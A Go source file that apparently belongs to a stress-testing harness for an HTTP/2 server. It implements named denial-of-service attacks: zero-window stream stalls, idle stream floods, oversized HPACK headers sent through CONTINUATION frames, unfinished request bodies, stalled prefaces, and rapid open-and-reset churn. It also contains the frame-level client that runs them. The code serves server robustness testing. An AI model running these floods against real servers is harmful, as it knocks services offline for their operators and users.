//go:build linux

package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks with the streams of HTTP/2.
var http2Attacks = []attack{
	{
		name:  "h2-stall",
		what:  "20 connections with 240 streams each from the start, and windows of 0",
		http2: true,
		run:   holding(20, 240, "/events?topic=filler.**&from=start", http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}),
	},
	{
		name:  "h2-streams",
		what:  "40 connections with 250 streams each that do nothing",
		http2: true,
		run:   holding(40, 250, "/events?topic=nothing.here"),
	},
	{
		name:  "h2-hpack",
		what:  "2,400 streams whose heads are 40 kB large and come in a few bytes",
		http2: true,
		run: func(ctx context.Context, t *target) string {
			var extra []string
			for k := range 500 {
				extra = append(extra, fmt.Sprintf("x%d", k%40), strings.Repeat("v", 40))
			}
			return holdStreams(ctx, t, 10, 240, nil, func(h *h2conn) error { return h.get("/events?topic=nothing.here", extra...) })
		},
	},
	{
		name:  "h2-bodies",
		what:  "40 connections with 200 messages each of 60 KiB that stop before their end",
		http2: true,
		run: func(ctx context.Context, t *target) string {
			body := bytes.Repeat([]byte("b"), 16<<10)
			return holdStreams(ctx, t, 40, 200, nil, func(h *h2conn) error {
				id, err := h.open("POST", "/topics/bodies", false, "content-length", "61440")
				for k := 0; k < 3 && err == nil; k++ {
					err = h.fr.WriteData(id, false, body)
				}
				return err
			})
		},
	},
	{
		name:  "h2-begin",
		what:  "600 connections that send the preface or a part of it, and wait",
		http2: true,
		run: func(ctx context.Context, t *target) string {
			headers := string([]byte{0, 0, 100, byte(http2.FrameHeaders), 0, 0, 0, 0, 1}) // and then none
			begins := []string{"PRI * HTTP/2.0\r\n", "PRI * HTTP/2.0\r\n\r\nSM", http2.ClientPreface, http2.ClientPreface + headers}
			var c crowd
			defer c.leave()
			each(ctx, t.many(600), 8, func(i int) { c.add(t.send(0, begins[i%len(begins)])) })
			<-ctx.Done()
			return c.String()
		},
	},
	{
		name:  "h2-churn",
		what:  "eight clients open connections with a stream, and reset them",
		http2: true,
		run: func(ctx context.Context, t *target) string {
			n := repeat(ctx, 8, func(_, _ int) {
				h, err := newH2(t)
				if err != nil {
					return
				}
				h.get("/events?topic=nothing.here")
				time.Sleep(2 * time.Millisecond)
				h.leave()
			})
			return fmt.Sprintf("%d connections", n)
		},
	},
}

// An h2conn is a client's connection of HTTP/2, on the level of frames. One goroutine uses it.
type h2conn struct {
	conn    *net.TCPConn
	fr      *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	next    uint32 // the id of the next stream
	reading sync.WaitGroup
}

// newH2 connects and sends the preface.
func newH2(t *target, settings ...http2.Setting) (*h2conn, error) {
	conn, err := t.send(0, http2.ClientPreface)
	if err != nil {
		return nil, err
	}
	conn.SetWriteDeadline(time.Now().Add(t.left()))
	h := &h2conn{conn: conn, fr: http2.NewFramer(conn, conn), next: 1}
	h.encoder = hpack.NewEncoder(&h.block)
	return h, h.fr.WriteSettings(settings...)
}

// drain reads what the server sends, and answers nothing.
func (h *h2conn) drain() { h.reading.Go(func() { io.Copy(io.Discard, h.conn) }) }

func (h *h2conn) leave() {
	reset(h.conn)
	h.reading.Wait()
}

// fields encodes a head.
func (h *h2conn) fields(method, path string, extra ...string) []byte {
	h.block.Reset()
	pairs := append([]string{":method", method, ":scheme", "http", ":authority", "localhost", ":path", path}, extra...)
	for i := 0; i < len(pairs); i += 2 {
		h.encoder.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return h.block.Bytes()
}

// open opens a stream.
func (h *h2conn) open(method, path string, end bool, extra ...string) (id uint32, err error) {
	id = h.next
	h.next += 2
	block := h.fields(method, path, extra...)
	const most = 16 << 10 // of a frame
	first := block[:min(most, len(block))]
	block = block[len(first):]
	err = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: end, EndHeaders: len(block) == 0})
	for len(block) > 0 && err == nil {
		part := block[:min(most, len(block))]
		block = block[len(part):]
		err = h.fr.WriteContinuation(id, len(block) == 0, part)
	}
	return id, err
}

func (h *h2conn) get(path string, extra ...string) error {
	_, err := h.open("GET", path, true, extra...)
	return err
}

// holding opens streams on connections, and keeps them.
func holding(connections, streams int, path string, settings ...http2.Setting) func(context.Context, *target) string {
	return func(ctx context.Context, t *target) string {
		return holdStreams(ctx, t, connections, streams, settings, func(h *h2conn) error { return h.get(path) })
	}
}

// holdStreams opens streams with open, and keeps their connections until ctx is done.
func holdStreams(ctx context.Context, t *target, connections, streams int, settings []http2.Setting, open func(h *h2conn) error) string {
	var mu sync.Mutex
	var all []*h2conn
	ended := 0
	defer func() {
		for _, h := range all {
			h.leave()
		}
	}()
	each(ctx, t.many(connections), 8, func(int) {
		h, err := newH2(t, settings...)
		if err == nil {
			h.drain()
			for n := 0; n < streams && err == nil; n++ {
				err = open(h)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		if h != nil {
			all = append(all, h)
		}
		if err != nil {
			ended++
		}
	})
	<-ctx.Done()
	return fmt.Sprintf("%d connections, %d ended while they opened streams", len(all), ended)
}
